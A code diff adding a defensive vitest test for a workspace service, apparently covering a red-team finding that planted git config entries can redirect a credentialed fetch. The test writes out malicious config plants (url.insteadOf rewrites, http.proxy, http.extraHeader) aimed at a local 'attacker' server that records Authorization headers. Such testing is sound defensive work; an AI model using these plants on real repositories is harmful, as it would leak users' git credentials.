@@ -7,6 +7,9 @@
  */
 import { execFileSync, spawnSync } from 'node:child_process';
 import { chmod, cp, lstat, mkdir, readFile, readdir, rm, symlink, utimes, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import type { contentservice } from '@workbay/api';
@@ -300,6 +303,82 @@ describe('git attacks (real daemon, real git, production git policy)', () => {
       ).toBe(true);
     }
     if (specUrl !== undefined) expect(result).toBeInstanceOf(Error);
+  });
+
+  /**
+   * Red team finding 3: content planted by a prebuild redirects the next workspace's credentialed fetch. The
+   * spec's remote is the credentialed one; an "attacker" host asks for credentials (401) to whatever reaches it.
+   * A URL rewrite is refused (the workspace fails, FAILED_PRECONDITION naming the key); proxies and extra headers
+   * are neutralised (the prebuild works against the real remote). The attacker never gets a request.
+   */
+  describe('prebuild content that redirects the credentialed fetch (red team finding 3)', () => {
+    let attacker: Server;
+    let attackerUrl: string;
+    const received: string[] = [];
+    beforeAll(async () => {
+      attacker = createServer((req, res) => {
+        received.push(`${req.method ?? ''} ${req.url ?? ''} ${req.headers.authorization ?? '-'}`);
+        res.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end();
+      });
+      await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', () => resolve()));
+      attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
+    });
+    afterAll(async () => {
+      attacker?.closeAllConnections();
+      await new Promise<void>((resolve) => (attacker ? attacker.close(() => resolve()) : resolve()));
+    });
+
+    const plants: [string, () => string, 'refused' | 'works'][] = [
+      ['url.<attacker>.insteadOf', () => `[url "${attackerUrl}/"]\n\tinsteadOf = ${privateServer.url}/\n`, 'refused'],
+      ['url.<attacker>.insteadOf = http://', () => `[url "${attackerUrl}/"]\n\tinsteadOf = http://\n`, 'refused'],
+      ['http.proxy', () => `[http]\n\tproxy = ${attackerUrl}\n`, 'works'],
+      ['http.<url>.proxy', () => `[http "${privateServer.url}/"]\n\tproxy = ${attackerUrl}\n`, 'works'],
+      ['http.extraHeader', () => `[http]\n\textraHeader = Authorization: Basic ZXZpbDpldmls\n`, 'works'],
+    ];
+    it.each(plants)('planted %s: the user credentials never leave for the attacker', async (_key, plant, outcome) => {
+      received.length = 0;
+      const sourceId = nextId();
+      const { contentLocation } = await init(gitInit({ fullClone: true }), sourceId);
+      execFileSync('sh', ['-c', `cat >> "$0"`, join(contentLocation, '.git', 'config')], { input: plant() });
+      const { url } = await t.client.takeSnapshot({ id: sourceId });
+      await t.client.disposeWorkspace({ id: sourceId, backup: false, backupLogs: false });
+      const seenBefore = privateServer.seenAuthorization.length;
+      const result = await init({
+        spec: {
+          $case: 'prebuild',
+          value: {
+            prebuild: { snapshot: url, fromVolumeSnapshot: false },
+            git: [
+              {
+                remoteUri: `${privateServer.url}/repo.git`,
+                targetMode: 2,
+                cloneTaget: 'feature',
+                config: {
+                  customConfig: {},
+                  authentication: 1,
+                  authUser: 'alice',
+                  authPassword: 'never-sent',
+                  authOts: '',
+                },
+              } as contentservice.GitInitializer,
+            ],
+          },
+        },
+      }).catch((error: unknown) => error);
+      expect(received).toEqual([]);
+      const seen = privateServer.seenAuthorization.slice(seenBefore);
+      expect(seen.every((h) => h === `Basic ${Buffer.from('alice:never-sent').toString('base64')}`)).toBe(true);
+      if (outcome === 'refused') {
+        expect(result).toBeInstanceOf(Error);
+        expect(isWorkbayError(result, 'failed-precondition'), String(result)).toBe(true);
+        expect((result as Error).message).toMatch(/insteadof/i);
+      } else {
+        expect(result, String(result)).not.toBeInstanceOf(Error);
+        expect(seen.length).toBeGreaterThan(0);
+        const { contentLocation: started } = result as { contentLocation: string };
+        expect(git(started, 'rev-parse', '--abbrev-ref', 'HEAD')).toBe('feature');
+      }
+    });
   });
 
   it('a cloned repository whose submodules point at ext::, a local path and an option-looking URL: nothing runs', async () => {
